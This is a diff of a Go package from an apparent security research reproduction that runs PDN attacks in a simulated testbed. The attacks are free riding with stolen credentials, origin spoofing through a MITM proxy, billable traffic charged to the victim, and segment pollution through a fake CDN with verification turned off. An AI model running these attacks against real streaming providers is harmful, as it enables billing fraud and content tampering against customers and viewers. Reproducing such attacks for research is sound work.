@@ -1,10 +1,10 @@
 // Package attack implements the paper's attacks as runnable
 // orchestrations against a deployed testbed:
 //
-//   - service free riding (§IV-B): joining a PDN with a stolen API key
-//     from an unauthorized origin (cross-domain), or from a spoofed
-//     origin via a signaling MITM (domain-spoofing), and generating
-//     billable P2P traffic on the victim customer's account;
+//   - service free riding (§IV-B): joining a PDN with a stolen
+//     credential from an unauthorized origin (cross-domain), or from a
+//     spoofed origin via a signaling MITM (domain-spoofing), and
+//     generating billable P2P traffic on the victim customer's account;
 //   - video segment pollution (§IV-C): a fake CDN + malicious peer
 //     collusion that feeds polluted-but-consistent segments into the
 //     swarm, plus the naive direct-pollution variant that the SDK's
@@ -13,7 +13,10 @@
 // Nothing here requires knowledge of the PDN's internals beyond what a
 // subscriber-level attacker has: the SDK join parameters (visible in
 // any customer page) and control over the attacker's own peer and its
-// network path — exactly the paper's threat model.
+// network path — exactly the paper's threat model. So every attack
+// takes what a viewer holds, a pdnclient.Config with its credential in
+// whichever style the provider uses (API key, session token or JWT), and
+// changes only what the attacker controls.
 package attack
 
 import (
@@ -25,15 +28,53 @@ import (
 	"github.com/stealthy-peers/pdnsec/internal/media"
 	"github.com/stealthy-peers/pdnsec/internal/mitm"
 	"github.com/stealthy-peers/pdnsec/internal/netsim"
-	"github.com/stealthy-peers/pdnsec/internal/obs"
 	"github.com/stealthy-peers/pdnsec/internal/pdnclient"
 	"github.com/stealthy-peers/pdnsec/internal/signal"
 )
 
-// JoinProbe attempts a signaling join with the given credentials and
-// reports whether the server accepted it. It is the primitive both
-// peer-authentication tests build on.
-func JoinProbe(ctx context.Context, host *netsim.Host, server netip.AddrPort, req signal.JoinRequest) (bool, error) {
+// freeRide is the free rider's join: the stolen credential, whatever
+// its style, presented from the attacker's own origin for the
+// attacker's own stream. A token claims the attacker's own video URL —
+// the binding check is exactly what tells the profiles apart.
+func freeRide(stolen pdnclient.Config) signal.JoinRequest {
+	req := signal.JoinRequest{
+		APIKey:    stolen.APIKey,
+		Origin:    "https://freerider.evil",
+		Token:     stolen.Token,
+		Video:     "attacker-stream",
+		Rendition: "360p",
+	}
+	if req.Token != "" {
+		req.VideoURL = "http://cdn.freerider.evil/v/attacker-stream/master.m3u8"
+	}
+	return req
+}
+
+// CrossDomain runs the cross-domain free-riding test from stolen.Host:
+// join stolen.SignalAddr with the credential stolen carries — an API
+// key, a session token or a JWT — under the attacker's own origin, for
+// the attacker's own stream. Success means the credential constrains
+// neither. A config with no credential probes for unauthenticated
+// joins.
+func CrossDomain(ctx context.Context, stolen pdnclient.Config) (bool, error) {
+	return join(ctx, stolen.Host, stolen.SignalAddr, freeRide(stolen))
+}
+
+// DomainSpoof runs the domain-spoofing test: the CrossDomain join flows
+// through a MITM proxy on proxyHost (a host the attacker controls) that
+// rewrites Origin/Referer to the victim domain.
+func DomainSpoof(ctx context.Context, stolen pdnclient.Config, proxyHost *netsim.Host, victimDomain string) (bool, error) {
+	proxy := mitm.NewSignalProxy(proxyHost, stolen.SignalAddr, mitm.SpoofOrigin(victimDomain))
+	if err := proxy.Serve(ctx, 8443); err != nil {
+		return false, err
+	}
+	defer proxy.Close()
+	return join(ctx, stolen.Host, netip.AddrPortFrom(proxyHost.VisibleAddr(), 8443), freeRide(stolen))
+}
+
+// join attempts a signaling join and reports whether the server
+// accepted it; only transport failures are errors.
+func join(ctx context.Context, host *netsim.Host, server netip.AddrPort, req signal.JoinRequest) (bool, error) {
 	c, err := signal.Dial(ctx, host, server)
 	if err != nil {
 		return false, err
@@ -48,63 +89,6 @@ func JoinProbe(ctx context.Context, host *netsim.Host, server netip.AddrPort, re
 	return true, nil
 }
 
-// CrossDomain runs the cross-domain free-riding test: join with a
-// stolen key under the attacker's own origin. Success means the key
-// enforces no domain allowlist.
-func CrossDomain(ctx context.Context, host *netsim.Host, server netip.AddrPort, stolenKey string) (bool, error) {
-	return JoinProbe(ctx, host, server, signal.JoinRequest{
-		APIKey:    stolenKey,
-		Origin:    "https://freerider.evil",
-		Video:     "attacker-stream",
-		Rendition: "360p",
-	})
-}
-
-// SpoofedJoinProbe routes an arbitrary join through a MITM proxy that
-// rewrites Origin/Referer to the victim domain — the generalized
-// domain-spoofing primitive the replay matrix uses for every credential
-// style (API key, session token, JWT). proxyHost must be a host the
-// attacker controls.
-func SpoofedJoinProbe(ctx context.Context, attacker, proxyHost *netsim.Host, server netip.AddrPort, victimDomain string, req signal.JoinRequest) (bool, error) {
-	proxy := mitm.NewSignalProxy(proxyHost, server, mitm.SpoofOrigin(victimDomain))
-	if err := proxy.Serve(ctx, 8443); err != nil {
-		return false, err
-	}
-	defer proxy.Close()
-	return JoinProbe(ctx, attacker, netip.AddrPortFrom(proxyHost.VisibleAddr(), 8443), req)
-}
-
-// DomainSpoof runs the domain-spoofing test: an unmodified join flows
-// through a MITM proxy that rewrites Origin/Referer to the victim
-// domain. proxyHost must be a host the attacker controls.
-func DomainSpoof(ctx context.Context, attacker, proxyHost *netsim.Host, server netip.AddrPort, stolenKey, victimDomain string) (bool, error) {
-	return SpoofedJoinProbe(ctx, attacker, proxyHost, server, victimDomain, signal.JoinRequest{
-		APIKey:    stolenKey,
-		Origin:    "https://freerider.evil", // rewritten in flight
-		Video:     "attacker-stream",
-		Rendition: "360p",
-	})
-}
-
-// TrafficParams configures free-riding traffic generation.
-type TrafficParams struct {
-	Network    *netsim.Network
-	SignalAddr netip.AddrPort
-	STUNAddr   netip.AddrPort
-	// CDNBase serves the attacker's own video (its stream that victims'
-	// PDN subscription now pays to distribute).
-	CDNBase   string
-	StolenKey string
-	Origin    string // origin to claim (spoofed or attacker-owned)
-	Video     string
-	Rendition string
-	// Hosts are the attacker's peer machines; the first seeds from the
-	// CDN, the rest leech over P2P.
-	Hosts []*netsim.Host
-	// SegmentsPerPeer bounds each peer's playback.
-	SegmentsPerPeer int
-}
-
 // TrafficResult reports what the free riders moved.
 type TrafficResult struct {
 	SeederStats  pdnclient.Stats
@@ -115,32 +99,26 @@ type TrafficResult struct {
 	JoinAccepted bool
 }
 
-// GenerateTraffic free-rides the PDN: attacker peers watch the
-// attacker's own stream under the victim's key, generating P2P traffic
-// that the provider meters against the victim customer.
-func GenerateTraffic(ctx context.Context, p TrafficParams) (TrafficResult, error) {
+// GenerateTraffic free-rides the PDN: one attacker peer per host plays
+// peer's stream — the attacker's own video on the attacker's CDN —
+// under the credential and origin peer carries, generating P2P traffic
+// that the provider meters against the credential's owner. The first
+// host seeds from the CDN and lingers; the rest leech over P2P. The
+// peer on hosts[i] runs with seed peer.Seed+i.
+func GenerateTraffic(ctx context.Context, peer pdnclient.Config, hosts []*netsim.Host) (TrafficResult, error) {
 	var res TrafficResult
-	if len(p.Hosts) < 2 {
-		return res, fmt.Errorf("attack: need at least 2 hosts, got %d", len(p.Hosts))
+	if len(hosts) < 2 {
+		return res, fmt.Errorf("attack: need at least 2 hosts, got %d", len(hosts))
 	}
-	mk := func(host *netsim.Host, seed int64, linger time.Duration) (*pdnclient.Peer, error) {
-		return pdnclient.New(pdnclient.Config{
-			Host:        host,
-			Network:     p.Network,
-			SignalAddr:  p.SignalAddr,
-			STUNAddr:    p.STUNAddr,
-			CDNBase:     p.CDNBase,
-			APIKey:      p.StolenKey,
-			Origin:      p.Origin,
-			Video:       p.Video,
-			Rendition:   p.Rendition,
-			MaxSegments: p.SegmentsPerPeer,
-			Linger:      linger,
-			Seed:        seed,
-		})
+	mk := func(i int, linger time.Duration) (*pdnclient.Peer, error) {
+		cfg := peer
+		cfg.Host = hosts[i]
+		cfg.Seed = peer.Seed + int64(i)
+		cfg.Linger = linger
+		return pdnclient.New(cfg)
 	}
 
-	seeder, err := mk(p.Hosts[0], 1, time.Minute)
+	seeder, err := mk(0, time.Minute)
 	if err != nil {
 		return res, err
 	}
@@ -152,7 +130,7 @@ func GenerateTraffic(ctx context.Context, p TrafficParams) (TrafficResult, error
 	// Wait for the seeder to be ready to serve.
 	deadline := time.Now().Add(30 * time.Second)
 	for time.Now().Before(deadline) {
-		if st := seeder.Stats(); st.SegmentsPlayed >= p.SegmentsPerPeer && p.SegmentsPerPeer > 0 {
+		if st := seeder.Stats(); st.SegmentsPlayed >= peer.MaxSegments && peer.MaxSegments > 0 {
 			break
 		}
 		if ctx.Err() != nil {
@@ -162,8 +140,8 @@ func GenerateTraffic(ctx context.Context, p TrafficParams) (TrafficResult, error
 	}
 	res.JoinAccepted = seeder.ID() != ""
 
-	for i, h := range p.Hosts[1:] {
-		leech, err := mk(h, int64(i+2), 0)
+	for i := 1; i < len(hosts); i++ {
+		leech, err := mk(i, 0)
 		if err != nil {
 			return res, err
 		}
@@ -182,44 +160,6 @@ func GenerateTraffic(ctx context.Context, p TrafficParams) (TrafficResult, error
 	return res, nil
 }
 
-// PollutionParams configures a content pollution attack.
-type PollutionParams struct {
-	Network    *netsim.Network
-	SignalAddr netip.AddrPort
-	STUNAddr   netip.AddrPort
-	// RealCDNBase is the CDN the fake CDN shadows.
-	RealCDNBase string
-	// FakeCDNHost is the attacker machine hosting the fake CDN.
-	FakeCDNHost *netsim.Host
-	// MaliciousHost runs the attacker's peer.
-	MaliciousHost *netsim.Host
-	// Credentials for the malicious peer's join.
-	APIKey   string
-	Origin   string
-	Token    string
-	VideoURL string
-
-	Video     string
-	Rendition string
-	// Pollute selects the substitution strategy: use
-	// mitm.SameSizePollution for the segment pollution attack and
-	// mitm.ForeignVideoPollution for the direct variant.
-	Pollute mitm.PolluteFunc
-	// Segments bounds the malicious peer's playback.
-	Segments int
-	// Insecure strips integrity verification from the malicious peer's
-	// own client (pdnclient.Config.InsecureNoVerify). Against providers
-	// that sign manifests the attacker must do this — an unmodified SDK
-	// would reject the fake CDN's bytes before caching them — and it
-	// also keeps the attacker from filing IM reports that would get it
-	// blacklisted for contradicting the ground truth.
-	Insecure bool
-	// Obs and Tracer instrument the fake CDN and the malicious peer;
-	// nil disables.
-	Obs    *obs.Registry
-	Tracer *obs.Tracer
-}
-
 // Pollution is a launched pollution attack.
 type Pollution struct {
 	FakeCDN   *mitm.FakeCDN
@@ -228,35 +168,25 @@ type Pollution struct {
 	done chan pdnclient.Stats
 }
 
-// LaunchPollution stands up the fake CDN and the malicious peer. The
-// malicious peer plays the stream *through the fake CDN*, caching
-// polluted segments it then serves to any victim that asks — it needs
-// no knowledge of the PDN protocol at all.
-func LaunchPollution(ctx context.Context, p PollutionParams) (*Pollution, error) {
-	fake := mitm.NewFakeCDN(p.FakeCDNHost, p.RealCDNBase, p.Pollute)
-	fake.Instrument(p.Obs, p.Tracer)
-	if err := fake.Serve(p.FakeCDNHost, 80); err != nil {
+// LaunchPollution stands up the fake CDN on fakeCDNHost, shadowing
+// malicious.CDNBase with pollute's substitutions, and runs the
+// malicious peer: an ordinary viewer config whose CDN is the fake one.
+// It plays the stream *through the fake CDN*, caching polluted segments
+// it then serves to any victim that asks — it needs no knowledge of the
+// PDN protocol at all. Only CDNBase and Linger are the attack's; the
+// rest of malicious is the caller's, including InsecureNoVerify, which
+// an attacker sets against providers that sign manifests (an unmodified
+// SDK would reject the fake CDN's bytes before caching them) and to
+// file no IM reports that would get it blacklisted.
+func LaunchPollution(ctx context.Context, malicious pdnclient.Config, fakeCDNHost *netsim.Host, pollute mitm.PolluteFunc) (*Pollution, error) {
+	fake := mitm.NewFakeCDN(fakeCDNHost, malicious.CDNBase, pollute)
+	fake.Instrument(malicious.Obs, malicious.Tracer)
+	if err := fake.Serve(fakeCDNHost, 80); err != nil {
 		return nil, err
 	}
-	mal, err := pdnclient.New(pdnclient.Config{
-		Host:             p.MaliciousHost,
-		Network:          p.Network,
-		SignalAddr:       p.SignalAddr,
-		STUNAddr:         p.STUNAddr,
-		CDNBase:          "http://" + p.FakeCDNHost.VisibleAddr().String() + ":80",
-		APIKey:           p.APIKey,
-		Origin:           p.Origin,
-		Token:            p.Token,
-		VideoURL:         p.VideoURL,
-		Video:            p.Video,
-		Rendition:        p.Rendition,
-		MaxSegments:      p.Segments,
-		Linger:           5 * time.Minute,
-		Seed:             666,
-		InsecureNoVerify: p.Insecure,
-		Obs:              p.Obs,
-		Tracer:           p.Tracer,
-	})
+	malicious.CDNBase = "http://" + fakeCDNHost.VisibleAddr().String() + ":80"
+	malicious.Linger = 5 * time.Minute
+	mal, err := pdnclient.New(malicious)
 	if err != nil {
 		fake.Close()
 		return nil, err
@@ -267,9 +197,10 @@ func LaunchPollution(ctx context.Context, p PollutionParams) (*Pollution, error)
 		atk.done <- st
 	}()
 	// Wait until the malicious peer has cached its polluted segments.
+	segments := malicious.MaxSegments
 	deadline := time.Now().Add(30 * time.Second)
 	for time.Now().Before(deadline) {
-		if st := mal.Stats(); p.Segments > 0 && st.SegmentsPlayed >= p.Segments {
+		if st := mal.Stats(); segments > 0 && st.SegmentsPlayed >= segments {
 			return atk, nil
 		}
 		if ctx.Err() != nil {
@@ -302,36 +233,29 @@ type VictimObservation struct {
 	P2PSegments      int
 }
 
-// RunVictim plays the stream as an honest viewer and records which
-// played segments fail ground-truth verification — the reproduction's
-// automated stand-in for the paper's manual screen-recording check.
-func RunVictim(ctx context.Context, network *netsim.Network, host *netsim.Host,
-	signalAddr, stunAddr netip.AddrPort, cdnBase, apiKey, origin string,
-	video *media.Video, rendition string, segments int, seed int64) (VictimObservation, error) {
+// String summarises the observation, e.g. "victim played 2 polluted /
+// 4 P2P / 6 total segments".
+func (o VictimObservation) String() string {
+	return fmt.Sprintf("victim played %d polluted / %d P2P / %d total segments",
+		len(o.PollutedSegments), o.P2PSegments, o.PlayedSegments)
+}
 
+// RunVictim plays the stream as the honest viewer victim configures
+// and records which played segments fail ground-truth verification
+// against video — the reproduction's automated stand-in for the paper's
+// manual screen-recording check. It installs its own OnSegment.
+func RunVictim(ctx context.Context, victim pdnclient.Config, video *media.Video) (VictimObservation, error) {
 	var obs VictimObservation
-	peer, err := pdnclient.New(pdnclient.Config{
-		Host:        host,
-		Network:     network,
-		SignalAddr:  signalAddr,
-		STUNAddr:    stunAddr,
-		CDNBase:     cdnBase,
-		APIKey:      apiKey,
-		Origin:      origin,
-		Video:       video.ID,
-		Rendition:   rendition,
-		MaxSegments: segments,
-		Seed:        seed,
-		OnSegment: func(key media.SegmentKey, data []byte, source string) {
-			obs.PlayedSegments++
-			if source == pdnclient.SourceP2P {
-				obs.P2PSegments++
-			}
-			if !video.Verify(key.Rendition, key.Index, data) {
-				obs.PollutedSegments = append(obs.PollutedSegments, key)
-			}
-		},
-	})
+	victim.OnSegment = func(key media.SegmentKey, data []byte, source string) {
+		obs.PlayedSegments++
+		if source == pdnclient.SourceP2P {
+			obs.P2PSegments++
+		}
+		if !video.Verify(key.Rendition, key.Index, data) {
+			obs.PollutedSegments = append(obs.PollutedSegments, key)
+		}
+	}
+	peer, err := pdnclient.New(victim)
 	if err != nil {
 		return obs, err
 	}
